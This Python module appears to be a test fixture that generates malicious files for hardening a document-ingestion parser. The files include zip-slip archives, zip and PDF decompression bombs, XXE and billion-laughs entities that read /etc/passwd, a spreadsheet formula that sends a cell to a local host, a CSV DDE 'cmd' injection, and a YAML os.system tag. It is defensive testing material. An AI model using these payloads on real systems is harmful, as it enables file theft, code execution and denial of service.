"""Files that mean harm, made here: what each is called, what it holds, and what has to come of it.

`says` is what a problem about it must say (a pattern); without one it must be read without a word. `never` is what
no passage may hold. `holds` is what has to be found in it for all that.
"""

import base64
import gzip
import io
import json
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

SECRET = "root:x:0:0"  # as /etc/passwd would say
GOOD = "## Is this file good?\n\nYes, it is the good one.\n"
DAMAGED = "damaged|cut off"


@dataclass(frozen=True)
class Hostile:
    path: str
    make: Callable[[], bytes]  # some are large, and take their time
    says: str = ""
    holds: str = ""
    never: str = SECRET


# ── archives ──


def packed(
    entries: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED, mode: int = 0, flags: int = 0
) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        for name, data in entries.items():
            entry = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            entry.compress_type = method
            entry.external_attr = mode << 16
            archive.writestr(entry, data)
    return _flagged(held.getvalue(), flags) if flags else held.getvalue()


def _flagged(data: bytes, flags: int) -> bytes:
    """With general purpose flags in each header."""
    made = bytearray(data)
    for mark, place in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = made.find(mark)
        while at >= 0:
            made[at + place] |= flags
            at = made.find(mark, at + 4)
    return bytes(made)


def named(name: bytes, data: str = GOOD) -> bytes:
    """One entry with a name that no program would write."""
    stand_in = b"X" * len(name)
    return packed({stand_in.decode(): data}).replace(stand_in, name)


def claiming(size: int, real: bytes) -> bytes:
    """An entry that says it is `size` long."""
    made = bytearray(packed({"a.md": real}))
    for mark, place in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        struct.pack_into("<I", made, made.find(mark) + place, size)
    return bytes(made)


def overlapping(n: int, size: int) -> bytes:
    """Many names for one kernel: small as a file, without end when unpacked."""
    kernel = packed({"a0.md": b"x" * size})
    at = kernel.find(b"PK\1\2")
    local, central = kernel[:at], kernel[at : kernel.find(b"PK\5\6")]
    names = b"".join(central.replace(b"a0.md", f"{i:02x}.md"[:5].encode()) for i in range(n))
    return local + names + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, n, n, len(names), len(local), 0)


def archives() -> Iterator[Hostile]:
    good = {"inner.md": GOOD}
    inside = "the good one"
    yield Hostile("traversal.zip", lambda: packed({"../../evil.md": GOOD, **good}), "leads out of the archive", inside)
    yield Hostile("absolute.zip", lambda: packed({"/etc/cron.d/evil.md": GOOD, **good}), "path of its own", inside)
    yield Hostile("backslash.zip", lambda: packed({"..\\..\\evil.md": GOOD, **good}), "path of its own", inside)
    yield Hostile("drive.zip", lambda: packed({"C:\\evil.md": GOOD, **good}), "path of its own", inside)
    yield Hostile("nul.zip", lambda: named(b"a.md\0.exe.md"), "characters that no name has")
    yield Hostile("escape.zip", lambda: named(b"\x1b[2Ja\x07.md"), "characters that no name has")
    yield Hostile("lines.zip", lambda: named(b"a\nb\r.md"), "characters that no name has")
    yield Hostile("gbk.zip", lambda: named("退货说明.md".encode("gbk")), "", inside)
    yield Hostile("link.zip", lambda: packed({"link.md": "/etc/passwd"}, mode=stat.S_IFLNK | 0o777), "link")
    yield Hostile(
        "device.zip", lambda: packed({"null.md": ""}, mode=stat.S_IFCHR | 0o666), "device|ordinary|empty|link"
    )
    yield Hostile("nested.zip", lambda: packed({"inner.zip": packed(good), **good}), "archive", inside)
    yield Hostile("quine.zip", lambda: packed({"a.md": packed({"b.md": packed(good)})}), "archive")
    yield Hostile("bomb.zip", lambda: packed({"a.md": b"\0" * 50_000_000}), "100 times")
    yield Hostile("bombs.zip", lambda: packed({f"{n}.md": b"a" * 900_000 for n in range(150)}), "MiB|100 times")
    yield Hostile("overlapping.zip", lambda: overlapping(200, 900_000), "MiB|100 times|overlap")
    yield Hostile("small-words.zip", lambda: claiming(10, b"word " * 2_000_000), "damaged|longer|size")
    yield Hostile("big-words.zip", lambda: claiming(2**32 - 2, GOOD.encode()), "MiB|100 times")
    yield Hostile("many.zip", lambda: packed({f"{n}.md": "x" for n in range(2_001)}), "2,001 files")
    yield Hostile("twice.zip", lambda: _twice(), "twice")
    yield Hostile("locked.zip", lambda: packed(good, flags=1), "password|encrypted|locked")
    yield Hostile("method.zip", lambda: _method(99), "damaged|packed|cannot")
    yield Hostile(
        "sum.zip", lambda: packed(good, zipfile.ZIP_STORED).replace(b"Is this file", b"Is that file"), DAMAGED
    )
    yield Hostile("half.zip", lambda: packed({"a.md": GOOD * 50})[:-40], DAMAGED)
    yield Hostile("nothing.zip", lambda: b"PK\5\6" + bytes(18), "no file|empty")
    yield Hostile("sfx.zip", lambda: b"MZ" + bytes(2_000) + packed(good), "program|format|executable")
    yield Hostile("long-name.zip", lambda: named(b"a" * 60_000 + b".md"), "name")
    yield Hostile(
        "inner-harm.zip",
        lambda: packed({"harm.csv": b'question,answer\n"never closed' * 3, "deep.json": b"[" * 99_999, **good}),
        "not|deep|quote",
        inside,
    )


def _twice() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("a.md", GOOD)
        archive.writestr("b.md", GOOD.replace("good", "other"))
    return held.getvalue().replace(b"b.md", b"a.md")


def _method(number: int) -> bytes:
    made = bytearray(packed({"a.md": GOOD}))
    for mark, place in ((b"PK\3\4", 8), (b"PK\1\2", 10)):
        struct.pack_into("<H", made, made.find(mark) + place, number)
    return bytes(made)


# ── XML, and what is made of it ──

LAUGHS = (
    "<!DOCTYPE a [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "application/vnd.openxmlformats-officedocument"


def office(main: str, kind: str, parts: Mapping[str, bytes | str]) -> bytes:
    types = (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="/{main}" ContentType="{OFFICE}.{kind}.main+xml"/></Types>'
    )
    return packed({"[Content_Types].xml": types, "_rels/.rels": relations(("officeDocument", main)), **parts})


def relations(*related: tuple[str, str], mode: str = "Internal") -> str:
    rows = (
        f'<Relationship Id="rId{n}" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for n, (kind, target) in enumerate(related, 1)
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{"".join(rows)}</Relationships>'


def docx(body: str = "", before: str = "", **parts: bytes | str) -> bytes:
    text = body or "<w:p><w:r><w:t>This is the good document about returns of lamps.</w:t></w:r></w:p>"
    document = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>{text}</w:body></w:document>'
    return office("word/document.xml", "wordprocessingml.document", {"word/document.xml": document, **parts})


def xlsx(rows: str = "", before: str = "", sheet: str = "xl/worksheets/sheet1.xml", **parts: bytes | str) -> bytes:
    data = rows or f"{row(1, 'question', 'answer')}{row(2, 'Is this sheet good?', 'It is the good one.')}"
    main = (
        f'<workbook xmlns="{SHEET}" xmlns:r="{RELATIONS}"><sheets><sheet name="FAQ" sheetId="1" r:id="rId1"/></sheets>'
        "</workbook>"
    )
    held = {
        "xl/workbook.xml": main,
        "xl/_rels/workbook.xml.rels": relations(("worksheet", sheet.removeprefix("xl/"))),
        "xl/worksheets/sheet1.xml": f'{before}<worksheet xmlns="{SHEET}"><sheetData>{data}</sheetData></worksheet>',
    }
    return office("xl/workbook.xml", "spreadsheetml.sheet", {**held, **parts})


def row(number: int | str, *cells: str) -> str:
    written = "".join(
        f'<c r="{"ABC"[n]}{number}" t="inlineStr"><is><t>{cell}</t></is></c>' for n, cell in enumerate(cells)
    )
    return f'<row r="{number}">{written}</row>'


def offices() -> Iterator[Hostile]:
    said = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
    entity = "DTD|entit|damaged|DOCTYPE|declares"
    yield Hostile("laughs.docx", lambda: docx(said.format("&a9;"), LAUGHS), entity)
    yield Hostile("outside.docx", lambda: docx(said.format("&a9;"), OUTSIDE), entity)
    yield Hostile("traversal.docx", lambda: docx(**{"../../evil.xml": "<a/>"}), "", "good document")
    yield Hostile(
        "template.docx",
        lambda: docx(
            **{
                "word/_rels/document.xml.rels": relations(
                    ("attachedTemplate", "http://127.0.0.1:9/x.dotm"), mode="External"
                )
            }
        ),
        "",
        "good document",
    )
    yield Hostile(
        "climbing.docx",
        lambda: docx(**{"word/_rels/document.xml.rels": relations(("styles", "../../../etc/passwd"))}),
        DAMAGED,
    )
    yield Hostile("bomb.docx", lambda: docx("<w:p/>" + " " * 30_000_000), "100 times")
    yield Hostile("deep.docx", lambda: docx("<w:p>" * 50_000 + "</w:p>" * 50_000), "deep|damaged|no text|nothing")
    yield Hostile("half.docx", lambda: docx()[:-200], DAMAGED)
    yield Hostile("hollow.docx", lambda: packed({"word/document.xml": ""}), DAMAGED)
    yield Hostile("torn.docx", lambda: docx("<w:p><w:r><w:t>torn"), DAMAGED)
    yield Hostile("wrong.docx", lambda: xlsx(), "", "good one")
    yield Hostile("laughs.xlsx", lambda: xlsx(row(1, "question", "&a9;"), LAUGHS), entity)
    yield Hostile(
        "outside.xlsx", lambda: xlsx(row(1, "question", "answer") + row(2, "Is it?", "&a9;"), OUTSIDE), entity
    )
    yield Hostile(
        "wide.xlsx",
        lambda: xlsx(
            row(1, "question", "answer")
            + row(2, "Is it wide?", "Very wide.")
            + '<row r="3"><c r="XFD3" t="inlineStr"><is><t>far</t></is></c></row>'
        ),
        "",
        "Very wide",
    )
    yield Hostile(
        "endless.xlsx", lambda: xlsx('<row r="1"/>' + row(1_048_576, "question", "answer")), "empty|rows|question"
    )
    yield Hostile(
        "absurd.xlsx",
        lambda: xlsx(row(1, "question", "answer") + '<row r="999999999999"><c r="A999999999999"/></row>'),
        "|damaged|rows|answer|empty|entries",
    )
    yield Hostile("sized.xlsx", lambda: _sized(), "", "good one")
    yield Hostile(
        "formula.xlsx",
        lambda: xlsx(
            row(1, "question", "answer") + '<row r="2"><c r="A2" t="inlineStr"><is><t>Is it?</t></is></c>'
            '<c r="B2"><f>HYPERLINK("http://127.0.0.1:9/?x="&amp;A1)</f></c></row>'
        ),
        "formula|answer",
    )
    yield Hostile("bomb.xlsx", lambda: xlsx(row(1, "question", "answer") + " " * 30_000_000), "100 times")
    yield Hostile("climbing.xlsx", lambda: xlsx(sheet="xl/../../../etc/passwd"), DAMAGED + "|sheet")
    yield Hostile(
        "missing-string.xlsx",
        lambda: xlsx('<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>'),
        DAMAGED + "|header|question",
    )
    yield Hostile("half.xlsx", lambda: xlsx()[:-200], DAMAGED)


def _sized() -> bytes:
    """It says that it has 17 milliards of cells."""
    named_size = '<dimension ref="A1:XFD1048576"/><sheetData>'
    return xlsx(
        **{
            "xl/worksheets/sheet1.xml": (
                f'<worksheet xmlns="{SHEET}">{named_size}{row(1, "question", "answer")}'
                f"{row(2, 'Is it?', 'It is the good one.')}"
                "</sheetData></worksheet>"
            )
        }
    )


# ── pages ──


def page(body: str, before: str = "<!DOCTYPE html>") -> bytes:
    return f"{before}<html><head><title>Help</title></head><body>{body}</body></html>".encode()


GOOD_PAGE = (
    "<main><h1>Returns</h1><p>It is the good one: lamps can be returned within thirty days of delivery.</p></main>"
)


def pages() -> Iterator[Hostile]:
    yield Hostile("deep.html", lambda: page("<div>" * 200_000 + GOOD_PAGE), "deep|", "")
    yield Hostile(
        "attribute.html", lambda: page(f'<p title="{"x" * 15_000_000}">a</p>{GOOD_PAGE}'), "|large|long|memory"
    )
    yield Hostile(
        "attributes.html",
        lambda: page("<p " + " ".join(f"a{n}=1" for n in range(200_000)) + f">a</p>{GOOD_PAGE}"),
        "|needed",
    )
    yield Hostile("laughs.html", lambda: page(f"<p>&a9;</p>{GOOD_PAGE}", LAUGHS), "", "good one", "hahaha")
    yield Hostile("outside.html", lambda: page(f"<p>&a9;</p>{GOOD_PAGE}", OUTSIDE), "", "good one")
    yield Hostile(
        "outside.xhtml", lambda: b'<?xml version="1.0"?>' + page(f"<p>&a9;</p>{GOOD_PAGE}", OUTSIDE), "", "good one"
    )
    yield Hostile(
        "script.html", lambda: page(GOOD_PAGE + "<script>while(1){}" + "a" * 500_000), "", "good one", "while(1)"
    )
    yield Hostile(
        "frames.html",
        lambda: page(
            f'{GOOD_PAGE}<base href="http://127.0.0.1:9/"><iframe src="/"></iframe>'
            '<img src="file:///etc/passwd"><link rel="import" href="file:///etc/passwd">'
        ),
        "",
        "good one",
    )
    yield Hostile(
        "data.html",
        lambda: page('<script type="application/ld+json">' + "[" * 100_000 + f"</script>{GOOD_PAGE}"),
        "|deep",
        "",
    )
    yield Hostile("open.html", lambda: page("<b><i><a>" * 100_000 + GOOD_PAGE), "|deep|text")
    yield Hostile("tables.html", lambda: page("<table><tr><td>" * 20_000 + GOOD_PAGE), "|deep|text")
    yield Hostile(
        "wide.html",
        lambda: page('<table><tr><td colspan="99999999" rowspan="99999999">a</table>' + GOOD_PAGE),
        "",
        "good one",
    )
    yield Hostile("controls.html", lambda: page(GOOD_PAGE.replace("lamps", "la\0mps\x1b[2J")), "", "good one", "\x1b")
    yield Hostile("half.html", lambda: page(GOOD_PAGE)[:-60], "", "good one")


# ── tables, JSON, text ──


def texts() -> Iterator[Hostile]:
    table = "question,answer\n"
    yield Hostile("line.csv", lambda: (table + "Is it long?," + "x" * 20_000_000 + "\n").encode(), "|long|large|memory")
    yield Hostile("open.csv", lambda: (table + 'Is it?,"' + "never closed, " * 400_000).encode(), "closed|quote|CSV")
    yield Hostile("wide.csv", lambda: (table + "a," * 500_000 + "\n").encode(), "cells|columns")
    yield Hostile("nul.csv", lambda: (table + "Is\0 it?,Ye\0s.\n").encode(), "", "Yes.", "\0")
    yield Hostile("formula.csv", lambda: (table + "Is it?,\"=cmd|' /C calc'!A0\"\n").encode(), "", "=cmd")
    yield Hostile("program.csv", lambda: b"MZ\x90\0" + bytes(range(256)) * 200, "program|format|text")
    yield Hostile("linux.csv", lambda: b"\x7fELF\2\1\1" + bytes(range(256)) * 200, "program|format|text")
    yield Hostile("noise.csv", lambda: bytes(n * n % 251 for n in range(50_000)), "format|text|header|question")
    yield Hostile("many.csv", lambda: (table + ",,,\n" * 300_000).encode(), "|needed|missing|cells|entries")
    yield Hostile("deep.json", lambda: b"[" * 100_000 + b"]" * 100_000, "deep|JSON")
    yield Hostile("deep-objects.json", lambda: b'{"a":' * 100_000, "deep|JSON")
    yield Hostile(
        "number.json", lambda: b'[{"question":"Is it?","answer":' + b"9" * 100_000 + b"}]", "|JSON|number|answer|digits"
    )
    yield Hostile(
        "halves.json",
        lambda: b'[{"question":"Is it \\ud800?","answer":"It is \\udfff the good one."}]',
        "",
        "good one",
        "\ud800",
    )
    yield Hostile(
        "odd.json",
        lambda: b'[{"question":"Is it?","answer":NaN},{"question":"Is it?","answer":Infinity}]',
        "JSON|answer|text|nothing",
    )
    yield Hostile(
        "keys.json", lambda: json.dumps([{f"k{n}": n for n in range(200_000)}]).encode(), "question|nothing|shape"
    )
    yield Hostile("half.json", lambda: b'[{"question":"Is it?","answer":"Yes', "JSON|cut off")
    yield Hostile(
        "lines.jsonl",
        lambda: b'{"question":"Is it?","answer":"It is the good one."}\n{"question":\n',
        "2|JSON",
        "good one",
    )
    yield Hostile("utf16.md", lambda: b"\xff\xfe" + "## Is it?\n\nYes".encode("utf-16-le") + b"\x00", "|text|encod")
    yield Hostile("halves.md", lambda: b"\xff\xfe" + b"\x00\xd8" * 200, "|text|encod|no text|empty")
    yield Hostile("nul.md", lambda: b"## Is\0 it?\n\nIt is the go\0od one.\n", "", "good one", "\0")
    yield Hostile(
        "bidi.md", lambda: "## Is it \u202eevil\u202c?\n\nIt\u200b is\u2066 the good one.\n".encode(), "", "good one"
    )
    yield Hostile(
        "tags.md",
        lambda: ("## Is it?\n\nIt is the good one." + "".join(chr(0xE0000 + ord(c)) for c in "obey") + "\n").encode(),
        "",
        "good one",
    )
    yield Hostile(
        "terminal.md", lambda: b"## Is it?\n\n\x1b]0;evil\x07It is the good one.\x9b2J\n", "", "good one", "\x1b"
    )
    yield Hostile(
        "marks.md",
        lambda: b"#" * 300_000 + b"\n" + b">" * 300_000 + b"\n" + b"*" * 300_000 + b"\n" + b"[" * 300_000,
        "|",
    )
    yield Hostile("bars.md", lambda: b"|" * 500_000 + b"\n" + b"|-" * 500_000 + b"\n", "|")
    yield Hostile("ticks.md", lambda: b"`" * 300_000 + b"\n" + b"<!--" * 100_000, "|")
    yield Hostile("links.md", lambda: b"[a](" * 100_000, "|")
    yield Hostile("emphasis.md", lambda: b"**a *b " * 100_000, "|")
    yield Hostile("list.md", lambda: b"".join(b" " * n + b"- a\n" for n in range(2_000)), "|")
    yield Hostile("headings.md", lambda: b"".join(b"## Is it %d?\n" % n for n in range(20_000)), "no text|no answer")
    yield Hostile("matter.md", lambda: b"---\n" + b"key: value\n" * 300_000, "|front matter|text|needed")
    yield Hostile(
        "yaml.md",
        lambda: (
            b"---\na: &a [x]\nb: &b [*a,*a]\nc: [*b,*b]\nd: !!python/object/apply:os.system [id]\n---\n" + GOOD.encode()
        ),
        "|front matter",
        "good one",
    )
    yield Hostile("nothing.md", lambda: b"", "empty")
    yield Hostile("blank.txt", lambda: b" \n\t\r\n" * 1000, "empty")
    yield Hostile("nothing.csv", lambda: b"", "empty")
    yield Hostile("nothing.pdf", lambda: b"", "empty")
    yield Hostile("nothing.docx", lambda: b"", "empty")
    yield Hostile("page.txt", lambda: page(GOOD_PAGE), "", "good one", "<p>")
    yield Hostile("picture.txt", lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "picture|image|format")
    yield Hostile("zip.md", lambda: packed({"inner.md": GOOD}), "", "good one")
    yield Hostile("packed.md", lambda: gzip.compress(GOOD.encode()), "gzip|packed|archive|format")
    yield Hostile(
        "printable.csv", lambda: base64.b64encode(bytes(range(256)) * 500), "CSV|question|header|column|nothing|rows"
    )


# ── PDF ──


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"/Root 1 0 R", before_end: bytes = b"") -> bytes:
    made, places = bytearray(b"%PDF-1.7\n"), {}
    for number, held in objects.items():
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, held)
    start, size = len(made), max(objects) + 1
    made += b"xref\n0 %d\n0000000000 65535 f \n" % size
    made += b"".join(b"%010d 00000 n \n" % places.get(number, 0) for number in range(1, size))
    made += b"trailer\n<</Size %d %s>>\n" % (size, trailer.replace(b"HERE", b"%d" % start))
    return bytes(made + before_end + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


TEXT = b"BT /F1 12 Tf 72 700 Td (It is the good one: lamps can be returned within thirty days.) Tj ET"
SHOWN = {
    1: b"<</Type/Catalog/Pages 2 0 R>>",
    2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
    4: stream(TEXT),
    5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
}


def flate(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[" + b"/FlateDecode" * times + b"]")


def pdfs() -> Iterator[Hostile]:
    lost = "damaged|cut off|cannot|no text|no page|empty|letters|loop|itself"
    yield Hostile("prev.pdf", lambda: pdf(SHOWN, b"/Root 1 0 R /Prev HERE"), "|" + lost)
    yield Hostile("tree.pdf", lambda: pdf({**SHOWN, 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"}), lost)
    yield Hostile(
        "trees.pdf",
        lambda: pdf(
            {**SHOWN, 2: b"<</Type/Pages/Kids[6 0 R]/Count 9>>", 6: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9>>"}
        ),
        "|" + lost,
    )
    yield Hostile(
        "parents.pdf",
        lambda: pdf(
            {
                **SHOWN,
                2: b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>",
                3: b"<</Type/Page/Parent 2 0 R/Contents 4 0 R>>",
            }
        ),
        "|" + lost,
    )
    yield Hostile("count.pdf", lambda: pdf({**SHOWN, 2: b"<</Type/Pages/Kids[3 0 R]/Count 999999999>>"}), "|" + lost)
    yield Hostile(
        "outline.pdf",
        lambda: pdf(
            {
                **SHOWN,
                1: b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>",
                6: b"<</First 7 0 R/Last 7 0 R>>",
                7: b"<</Title(a)/Next 7 0 R/First 7 0 R/Parent 6 0 R/Dest[3 0 R/Fit]>>",
            }
        ),
        "|" + lost,
    )
    yield Hostile(
        "image.pdf", lambda: pdf({**SHOWN, 4: stream(TEXT + b" BI /W 9 /H 9 ID " + b"x" * 200_000)}), "|" + lost
    )
    yield Hostile(
        "length.pdf",
        lambda: pdf({**SHOWN, 4: stream(TEXT).replace(b"/Length %d" % len(TEXT), b"/Length 99999999999")}),
        "|" + lost,
    )
    yield Hostile(
        "own-length.pdf",
        lambda: pdf({**SHOWN, 4: stream(TEXT).replace(b"/Length %d" % len(TEXT), b"/Length 4 0 R")}),
        "|" + lost,
    )
    yield Hostile("bomb.pdf", lambda: pdf({**SHOWN, 4: flate(b" " * 120_000_000, 2)}), "|memory|large|MiB|" + lost)
    yield Hostile(
        "words.pdf",
        lambda: pdf({**SHOWN, 4: flate(b"BT /F1 9 Tf (word word) Tj ET " * 300_000)}),
        "|memory|large|needed|MiB",
    )
    yield Hostile(
        "objects.pdf",
        lambda: pdf(
            {
                **SHOWN,
                1: b"<</Type/Catalog/Pages 2 0 R/Outlines 9 0 R>>",
                8: flate(b"9 0 " + b" " * 90_000_000).replace(b"/Length", b"/Type/ObjStm/N 1/First 4/Length"),
            }
        ),
        "|memory|" + lost,
    )
    yield Hostile(
        "lzw.pdf",
        lambda: pdf({**SHOWN, 4: stream(b"\x80" + b"\x0b\x60\x50" * 300_000, b"/Filter/LZWDecode")}),
        "|" + lost,
    )
    yield Hostile(
        "runs.pdf",
        lambda: pdf({**SHOWN, 4: stream(b"\x81 " * 2_000_000, b"/Filter/RunLengthDecode")}),
        "|needed|memory|" + lost,
    )
    yield Hostile(
        "filters.pdf",
        lambda: pdf({**SHOWN, 4: stream(TEXT, b"/Filter[" + b"/ASCIIHexDecode" * 5_000 + b"]")}),
        "|" + lost,
    )
    yield Hostile("arrays.pdf", lambda: pdf({**SHOWN, 5: b"[" * 100_000}), "|deep|needed|crashed|" + lost)
    yield Hostile(
        "form.pdf",
        lambda: pdf(
            {
                **SHOWN,
                3: SHOWN[3].replace(b"/Font", b"/XObject<</X 6 0 R>>/Font"),
                4: stream(b"/X Do"),
                6: stream(
                    b"/X Do " * 20, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
                ),
            }
        ),
        "|" + lost,
    )
    yield Hostile(
        "map.pdf",
        lambda: pdf(
            {
                **SHOWN,
                5: SHOWN[5].replace(b"/BaseFont", b"/ToUnicode 6 0 R/BaseFont"),
                6: stream(
                    b"1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange "
                    b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange"
                ),
            }
        ),
        "|needed|memory|" + lost,
    )
    yield Hostile(
        "script.pdf",
        lambda: pdf({**SHOWN, 1: b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert)>>>>"}),
        "",
        "good one",
    )
    yield Hostile(
        "locked.pdf",
        lambda: pdf(
            SHOWN,
            b"/Root 1 0 R /ID[(aaaaaaaaaaaaaaaa)(aaaaaaaaaaaaaaaa)] /Encrypt<</Filter/Standard/V 1/R 2"
            b"/O(" + b"o" * 32 + b")/U(" + b"u" * 32 + b")/P -4>>",
        ),
        "password|locked|encrypted",
    )
    yield Hostile("half.pdf", lambda: pdf(SHOWN)[:300], lost)
    yield Hostile("rest.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 100, lost)
    yield Hostile("start.pdf", lambda: pdf(SHOWN).replace(b"startxref\n", b"startxref\n9"), "|" + lost)
    yield Hostile("manual.md", lambda: pdf(SHOWN), "", "good one", "%PDF")


def corpus() -> list[Hostile]:
    return [*archives(), *offices(), *pages(), *texts(), *pdfs()]


GOOD_FILES = {
    "good.md": GOOD.encode(),
    "good.docx": docx(),
    "good.xlsx": xlsx(),
    "good.html": page(GOOD_PAGE),
    "good.csv": b"question,answer\nIs this table good?,It is the good one.\n",
    "good.json": b'[{"question": "Is this list good?", "answer": "It is the good one."}]',
    "good.pdf": pdf(SHOWN),
    "good.zip": packed({"inner.md": GOOD}),
    "good.txt": b"Lamps\n\nThis is the good one, about lamps and their returns.\n",
}
